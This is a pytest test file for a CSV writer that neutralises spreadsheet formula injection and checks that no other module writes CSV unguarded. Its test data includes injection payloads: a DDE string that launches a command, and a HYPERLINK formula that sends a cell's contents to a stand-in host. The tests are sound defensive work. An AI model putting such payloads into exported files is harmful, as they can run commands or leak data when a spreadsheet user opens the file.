"""What we write as CSV runs as nothing in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import ast
import csv
import re
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from adapters.spreadsheet_csv import is_formula, write_csv

ROOT = Path(__file__).parents[2]
PACKAGES = ("agent", "tools", "prompts", "adapters", "runtime", "evals")
WRITERS = ("adapters/spreadsheet_csv.py", "adapters/csv_parts.py")
OTHERS = {
    "evals/bench/table.py": "a table of random numbers, to be loaded and thrown away",
    "evals/bench/ml.py": "random numbers, written as bare pandas writes them, and thrown away",
    "evals/bench/prediction.py": "random numbers and words, to be loaded and thrown away",
    "evals/bench/schema_tables.py": "a public table as the loader is to read it, thrown away with its folder",
    "runtime/telegram/pasted.py": "a pasted table as a file that the loader reads: an upload of the person's own words",
    "adapters/data/excel_worker.py": "a sheet's copy that the loader reads, and removes before it ends",
}
"""Writers whose files no person ever opens."""
CALLS = frozenset("to_csv to_excel to_clipboard to_markdown write_csv write_excel savetxt ExcelWriter Workbook".split())
NAMES = frozenset(["writer", "DictWriter", "write_csv", *CALLS])
MODULES = frozenset(["csv", "xlsxwriter", "openpyxl", "odf", "pyarrow", "pyarrow.csv"])
"""The modules of which those names write; from our own module write_csv is what is wanted."""
COPY = re.compile(r"^\s*COPY\b.*\bTO\b(?!.*\bparquet\b)", re.IGNORECASE | re.DOTALL)
SINGLE = "\u200b\ufeff\u00a0\u3000\u2800\x00"

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "-",
    "--",
    "=",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example/?"&A1)',
    "+49 170 1234567",
    "-5 to 0",
    "-inf",
    "-1,5+cmd",
    "\t=1",
    "\tx",
    "\rx",
    "\nx",
    "\t5",
    "  =1+1",
    " \t=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1",
    "－５",
    *(f"{blank}=1" for blank in SINGLE),
]
PLAIN = ["5", "-5", "+5", "-5.25", "-.5", "+1e-3", "-1E+300", " -5 ", "a=1", "a-b", "x@y.example", "'=1", "", " ", "Ω"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_a_formula(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize("text", PLAIN)
def test_a_number_or_an_ordinary_word_is_no_formula(text: str) -> None:
    assert not is_formula(text)


def test_cells_and_headers_are_marked_and_nothing_else_is_changed(tmp_path: Path) -> None:
    words = [*FORMULAS, *PLAIN]
    n = len(words)
    numbers = np.linspace(-1.0, 1e-300, n)
    table = pd.DataFrame({"words": words, "=kind": pd.Categorical(words), "x": numbers, "n": range(-5, n - 5)})
    assert write_csv(table, tmp_path / "a.csv") == 2 * len(FORMULAS) + 1
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        head, *rows = list(csv.reader(file))
    assert head == ["words", "'=kind", "x", "n"]
    assert [row[0] for row in rows] == [f"'{word}" for word in FORMULAS] + PLAIN
    assert [row[1] for row in rows] == [row[0] for row in rows]
    assert [float(row[2]) for row in rows] == list(numbers)
    assert [row[3] for row in rows] == [str(value) for value in range(-5, n - 5)]


def test_what_is_missing_stays_missing(tmp_path: Path) -> None:
    table = pd.DataFrame({"a": ["=1", None, "-"], "b": [None, None, None], "c": [-1.5, None, 2.0]})
    write_csv(table, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text() == "a,b,c\n'=1,,-1.5\n,,\n'-,,2.0\n"


def test_a_time_difference_is_text_to_a_spreadsheet(tmp_path: Path) -> None:
    table = pd.DataFrame({"late": pd.to_timedelta(["-1 days", "2 days"]), "at": pd.to_datetime(["2026-01-02"] * 2)})
    write_csv(table, tmp_path / "a.csv")
    lines = (tmp_path / "a.csv").read_text().splitlines()
    assert lines[1].startswith("'-1 days")
    assert lines[1].endswith(",2026-01-02")


def test_a_carriage_return_ends_no_row(tmp_path: Path) -> None:
    """Without quotes around it, what stands behind it would begin a row of its own."""
    write_csv(pd.DataFrame({"a": ["x\r=1+1", "y"]}), tmp_path / "a.csv")
    assert b'"x\r=1+1"' in (tmp_path / "a.csv").read_bytes()


def test_columns_of_one_name_are_all_marked(tmp_path: Path) -> None:
    table = pd.DataFrame([["=1", "=2"]], columns=["a", "a"])
    assert write_csv(table, tmp_path / "a.csv") == 2
    assert (tmp_path / "a.csv").read_text() == "a,a\n'=1,'=2\n"


def test_a_program_gets_the_text_as_it_is_and_the_count(tmp_path: Path) -> None:
    assert write_csv(pd.DataFrame({"=a": ["=1", "x"]}), tmp_path / "a.csv", is_raw=True) == 2
    assert (tmp_path / "a.csv").read_text() == "=a\n=1\nx\n"


def test_no_other_line_of_ours_writes_csv_or_a_workbook() -> None:
    found = {str(file): line for file in _sources() for line in _writers((ROOT / file).read_text(encoding="utf-8"))}
    assert set(found) == {*WRITERS, *OTHERS}, found


@pytest.mark.parametrize(
    "code",
    [
        "table.to_csv(path)",
        "frame.to_excel(path)",
        "pl.from_pandas(t).write_csv(path)",
        "import csv\ncsv.writer(file)",
        "from csv import DictWriter",
        "import pyarrow.csv as pacsv\npacsv.write_csv(table, path)",
        "from openpyxl import Workbook",
        "pd.ExcelWriter(path)",
        'run(f"COPY data TO {path} (FORMAT csv)")',
        "run(\"copy (select 1) to 'a.csv'\")",
        "numpy.savetxt(path, X)",
    ],
)
def test_the_search_finds_a_writer(code: str) -> None:
    assert list(_writers(code))


def test_the_search_lets_readers_and_parquet_be() -> None:
    assert not list(
        _writers('import csv\ncsv.reader(p)\npd.read_csv(p)\nrun(f"COPY t TO {p} (FORMAT parquet)")\nwrite(table, p)')
    )


def _sources() -> Iterator[Path]:
    for package in PACKAGES:
        yield from (path.relative_to(ROOT) for path in (ROOT / package).rglob("*.py"))


def _writers(code: str) -> Iterator[str]:
    """The lines that write a table for a spreadsheet by themselves; `write_csv` of ours is called by its bare name."""
    tree = ast.parse(code)
    inner = {id(part) for node in ast.walk(tree) if isinstance(node, ast.JoinedStr) for part in node.values}
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            is_writer = node.attr in CALLS or (ast.unparse(node.value) in MODULES and node.attr in NAMES)
        elif isinstance(node, ast.ImportFrom):
            is_writer = node.module in MODULES and any(name.name in NAMES for name in node.names)
        elif isinstance(node, ast.JoinedStr | ast.Constant):
            is_writer = id(node) not in inner and COPY.search(_text(node)) is not None
        else:
            is_writer = False
        if is_writer:
            yield ast.unparse(node)


def _text(node: ast.JoinedStr | ast.Constant) -> str:
    parts = node.values if isinstance(node, ast.JoinedStr) else [node]
    return "".join(str(part.value) if isinstance(part, ast.Constant) else "x" for part in parts)
